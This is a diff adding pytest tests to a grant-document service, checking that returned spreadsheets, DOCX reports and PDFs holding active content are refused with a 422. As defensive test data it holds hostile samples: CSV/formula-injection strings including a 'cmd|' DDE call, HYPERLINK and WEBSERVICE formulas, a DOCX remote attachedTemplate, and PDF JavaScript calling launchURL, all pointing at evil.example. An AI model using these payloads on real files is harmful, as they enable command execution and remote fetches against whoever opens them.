@@ -7,18 +7,22 @@ e-mail text's language on the caseworker's Bokmål page."""
 from __future__ import annotations
 
 import html
+import io
 import json
 import re
+import zipfile
 from collections.abc import Iterator
 from typing import Any
 
 import httpx
 import pytest
 
+from grantdocs.service.web.pages import words
 from tests.helpers import SAMPLES
 from tests.service.conftest import Server, shared
 from tests.web.app_support import csrf_of, sign_in, wait_done
-from tests.web.test_grantee_api import make_batch
+from tests.web.test_grantee_api import html_lang, make_batch
+from tests.web.test_grantee_pages import Grantee, fill_like_the_sample, text_of
 
 
 @pytest.fixture(scope="module")
@@ -101,3 +105,119 @@ def test_a_session_cookie_replayed_after_sign_out_is_sent_to_sign_in(server: Ser
             grants = thief.get(f"/app/uploads/{'0' * 32}", follow_redirects=False)
             assert grants.status_code == 303 and grants.headers["location"] == "/app/"
         assert 'action="/app/sign-out"' in other.get("/app/").text
+
+
+# --- 1: returned files with active content are refused, never served to the caseworker -----
+
+NB_GRANTEE: Any = words("nb")["grantee"]
+NN_GRANTEE: Any = words("nn")["grantee"]
+NYNORSK = "22/00102-4"
+BOKMAL = "22/00133-5"
+
+
+def _grantee(links_made: dict[str, Any], reference: str) -> Grantee:
+    return Grantee(links_made["links"][reference]["url"])
+
+
+def _with_comment(workbook: bytes, comment: str, lang: str) -> bytes:
+    """The workbook (the Bokmål one filled in as the sample) with ``comment`` typed into
+    the first line's comment cell, the one under the comment column's heading (a formula
+    when it starts with '=')."""
+    from openpyxl import load_workbook
+
+    wb = load_workbook(io.BytesIO(fill_like_the_sample(workbook) if lang == "nb" else workbook))
+    ws = wb.worksheets[0]
+    heading = next(r for r in range(1, ws.max_row + 1) if isinstance(ws.cell(r, 6).value, str))
+    ws.cell(row=heading + 1, column=6, value=comment)
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+def _with_member(docx: bytes, name: str, content: bytes) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(docx)) as source, \
+            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            target.writestr(info, source.read(info))
+        target.writestr(name, content)
+    return out.getvalue()
+
+
+def _returned(server: Server, links_made: dict[str, Any], reference: str,
+              kind: str) -> httpx.Response:
+    link_id = links_made["links"][reference]["id"]
+    with sign_in(server) as client:
+        return client.get(f"/app/links/{link_id}/files/{kind}")
+
+
+@pytest.mark.parametrize("formula", [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/x","klikk")',
+    '=WEBSERVICE("http://evil.example/x")',
+])
+def test_a_workbook_with_a_formula_in_a_comment_is_refused_in_its_written_form(
+        server: Server, links_made: dict[str, Any], formula: str) -> None:
+    for reference, table, lang in ((NYNORSK, NN_GRANTEE, "nn"), (BOKMAL, NB_GRANTEE, "nb")):
+        grantee = _grantee(links_made, reference)
+        workbook = grantee.http.get(f"{grantee.url}/accounts.xlsx").content
+        answer = grantee.send("accounts", "regnskap.xlsx", _with_comment(workbook, formula, lang))
+        assert answer.status_code == 422, text_of(answer.text)[:600]
+        assert html_lang(answer) == lang
+        assert text_of(html.escape(table["refusals"]["active"], quote=False)) \
+            in text_of(answer.text)
+        assert _returned(server, links_made, reference, "accounts").status_code == 404
+        grantee.http.close()
+
+
+ATTACHED = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+            b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+            b'officeDocument/2006/relationships/attachedTemplate" '
+            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
+
+
+@pytest.mark.parametrize(("name", "content"), [
+    ("word/_rels/settings.xml.rels", ATTACHED),
+    ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros"),
+    ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0 an OLE object"),
+])
+def test_a_docx_report_with_active_content_gets_no_receipt(
+        server: Server, links_made: dict[str, Any], name: str, content: bytes) -> None:
+    grantee = _grantee(links_made, NYNORSK)
+    docx = grantee.http.get(f"{grantee.url}/report-template.docx").content
+    answer = grantee.send("report", "rapport.docx", _with_member(docx, name, content),
+                          "application/octet-stream")
+    assert answer.status_code == 422, text_of(answer.text)[:600]
+    assert text_of(NN_GRANTEE["errors"]["report_active"]) in text_of(answer.text)
+    assert _returned(server, links_made, NYNORSK, "report").status_code == 404
+    grantee.http.close()
+
+
+def _pdf(script: bool) -> bytes:
+    from pypdf import PdfWriter
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    if script:
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject("app.launchURL('http://evil.example/x');")})
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def test_a_pdf_with_javascript_is_refused_and_a_plain_one_kept(
+        server: Server, links_made: dict[str, Any]) -> None:
+    grantee = _grantee(links_made, BOKMAL)
+    refused = grantee.send("report", "rapport.pdf", _pdf(script=True), "application/pdf")
+    assert refused.status_code == 422, text_of(refused.text)[:600]
+    assert text_of(NB_GRANTEE["errors"]["report_active"]) in text_of(refused.text)
+    assert _returned(server, links_made, BOKMAL, "report").status_code == 404
+    plain = _pdf(script=False)
+    kept = grantee.send("report", "rapport.pdf", plain, "application/pdf")
+    assert kept.status_code == 200, text_of(kept.text)[:600]
+    assert _returned(server, links_made, BOKMAL, "report").content == plain
+    grantee.http.close()
